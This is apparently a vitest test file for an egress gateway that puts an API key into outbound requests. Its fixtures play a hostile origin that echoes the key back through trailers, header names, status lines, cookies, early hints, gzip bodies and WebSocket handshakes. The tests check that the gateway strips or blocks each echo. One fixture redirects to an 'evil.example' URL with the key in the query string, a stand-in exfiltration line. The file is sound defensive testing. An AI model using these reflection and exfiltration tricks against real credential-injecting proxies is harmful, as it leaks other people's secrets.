// S2 on the whole gate: an origin that gives back what it was sent, in every part of an answer. `docs/threat-model.md` lists each.
import { createHash } from "node:crypto"
import type { IncomingMessage, ServerResponse } from "node:http"
import type { Socket } from "node:net"
import { gzipSync } from "node:zlib"
import { describe, expect, onTestFinished, type TestContext, test, vi } from "vitest"
import { openEgressGate } from "../gateway/egress/gate.ts"
import { VALUE } from "../vault/support.ts"
import { askInside, head } from "./egress-inside.ts"

type Answer = (request: IncomingMessage, response: ServerResponse, key: string) => void

/** What the origin got as its key, whatever that was. */
const keyIn = (request: IncomingMessage) => String(request.headers.authorization).replace("Bearer ", "")

async function openReflecting(t: TestContext, answer: Answer) {
  const gate = await openEgressGate(t, {
    policy: (port) =>
      `network:\n  - { id: api, allow: api.example.com, ports: [${port}], addresses: [127.0.0.1], credential: example }\n`,
    origin: (request, response) => answer(request, response, keyIn(request)),
  })
  await gate.set()
  await gate.vault.reload()
  return gate
}

const reflections: [string, Answer][] = [
  [
    "in a trailer, its name and its value",
    (_, response, key) => {
      response.writeHead(200, { trailer: "x-echo" })
      response.write("body")
      response.addTrailers({ "x-echo": key, [key]: "1" })
      response.end()
    },
  ],
  ["in the name of a header", (_, response, key) => void response.writeHead(200, { [key]: "1" }).end("body")],
  [
    "in a header, in base64, and in a cookie",
    (_, response, key) =>
      void response
        .writeHead(302, {
          location: `https://evil.example/?k=${encodeURIComponent(key)}`,
          "set-cookie": [`a=${key}`, `b=${Buffer.from(`x:${key}`).toString("base64")}`],
        })
        .end(),
  ],
  [
    "in its status line",
    (_, response, key) => {
      response.statusMessage = key
      response.end("body")
    },
  ],
  [
    "in informational answers before it",
    (_, response, key) => {
      response.writeEarlyHints({ link: `</${key}>; rel=preload`, "x-echo": key })
      response.end("body")
    },
  ],
  [
    "byte by byte",
    async (_, response, key) => {
      response.write("body ")
      for (const char of key) {
        response.write(char)
        await new Promise((resolve) => setImmediate(resolve))
      }
      response.end()
    },
  ],
]

describe("S2: what an allowed host gives back of the key that the gate put in", () => {
  test.each(reflections)("%s", async (_, answer) => {
    const gate = await openReflecting({ onTestFinished } as TestContext, answer)
    const text = await askInside(
      gate,
      gate.origin.port,
      head("GET", "/", gate.origin.port, "Connection: close", "TE: trailers"),
      /\0/,
    )
    expect(gate.seen[0]?.headers.authorization).toBe(`Bearer ${VALUE}`)
    expect(text).toMatch(/^HTTP\/1\.1 (?:200|302) /)
    expect(text.toLowerCase()).not.toContain(VALUE.toLowerCase())
    expect(text).not.toContain(Buffer.from(`x:${VALUE}`).toString("base64"))
  })
})

const hidden: [string, Record<string, string | string[]>][] = [
  ["Content-Encoding", { "content-encoding": "gzip" }],
  ["two Content-Encodings, the first of which is none", { "content-encoding": ["identity", "gzip"] }],
  ["Transfer-Encoding", { "transfer-encoding": "gzip, chunked" }],
]

describe("S2: an answer that was asked for without any encoding", () => {
  test.each(hidden)("and has one by %s, does not go out", async (_, headers) => {
    const gate = await openReflecting({ onTestFinished } as TestContext, (_request, response, key) => {
      const socket = response.socket as Socket
      const lines = Object.entries(headers).flatMap(([name, value]) => [value].flat().map((one) => `${name}: ${one}`))
      const body = gzipSync(`the key is ${key}`)
      if (lines.some((line) => line.includes("chunked")))
        socket.end(
          Buffer.concat([
            Buffer.from(`HTTP/1.1 200 OK\r\n${lines.join("\r\n")}\r\n\r\n${body.length.toString(16)}\r\n`),
            body,
            Buffer.from("\r\n0\r\n\r\n"),
          ]),
        )
      else
        socket.end(
          Buffer.concat([
            Buffer.from(`HTTP/1.1 200 OK\r\n${lines.join("\r\n")}\r\ncontent-length: ${body.length}\r\n\r\n`),
            body,
          ]),
        )
    })
    const ran = await gate.curl(`${gate.base}/`)
    expect(gate.seen).toHaveLength(1)
    expect(ran.stdout).toMatch(/502$/)
    const failed = { type: "network.failed", detail: { failed: "answer.encoded" } }
    await vi.waitFor(async () => expect((await gate.records()).at(-1)).toMatchObject(failed), 5_000)
  })
})

describe("S2: the opening of a WebSocket with a key", () => {
  const opening = (port: number) =>
    head(
      "GET",
      "/socket",
      port,
      ...["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"],
      "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    )

  test("that is refused with an echo of it", async (t) => {
    const gate = await openReflecting(t, (_, response) => void response.end())
    gate.origin.server.on("upgrade", (request: IncomingMessage, socket: Socket) => {
      gate.seen.push({ method: "GET", url: "/", headers: request.headers, body: "" })
      const body = `no: ${keyIn(request)}`
      socket.end(
        `HTTP/1.1 403 ${keyIn(request)}\r\nx-echo: ${keyIn(request)}\r\ncontent-length: ${body.length}\r\n\r\n${body}`,
      )
    })
    const text = await askInside(gate, gate.origin.port, opening(gate.origin.port), /no: /)
    expect(gate.seen[0]?.headers.authorization).toBe(`Bearer ${VALUE}`)
    expect(text).toMatch(/^HTTP\/1\.1 403 /)
    expect(text).not.toContain(VALUE)
  })

  test("that is agreed to with an echo of it", async (t) => {
    const gate = await openReflecting(t, (_, response) => void response.end())
    gate.origin.server.on("upgrade", (request: IncomingMessage, socket: Socket) => {
      gate.seen.push({ method: "GET", url: "/", headers: request.headers, body: "" })
      const accept = createHash("sha1")
        .update(`${request.headers["sec-websocket-key"]}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
        .digest("base64")
      socket.write(
        `HTTP/1.1 101 ${keyIn(request)}\r\nconnection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-accept: ${accept}\r\nx-echo: ${keyIn(request)}\r\n\r\n`,
      )
    })
    const text = await askInside(gate, gate.origin.port, opening(gate.origin.port))
    expect(gate.seen[0]?.headers.authorization).toBe(`Bearer ${VALUE}`)
    expect(text).toMatch(/^HTTP\/1\.1 101 /)
    expect(text).not.toContain(VALUE)
  })
})
